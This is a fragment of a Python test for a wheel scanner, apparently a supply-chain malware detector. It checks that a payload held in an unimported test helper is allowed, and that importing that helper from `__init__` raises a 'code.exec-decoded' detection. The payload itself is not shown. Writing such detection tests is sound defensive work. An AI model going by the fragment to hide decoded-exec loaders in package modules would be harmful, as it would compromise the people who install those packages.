    dormant = scan_wheel({"demo/__init__.py": "VALUE = 1\n", "demo/tests/helper.py": payload})
    assert dormant.verdict == Verdict.ALLOW
    imported = scan_wheel({"demo/__init__.py": "from .tests import helper\nhelper.reset()\n",
                           "demo/tests/__init__.py": "", "demo/tests/helper.py": payload})
    assert "code.exec-decoded" in rules(imported)
    assert imported.verdict != Verdict.ALLOW
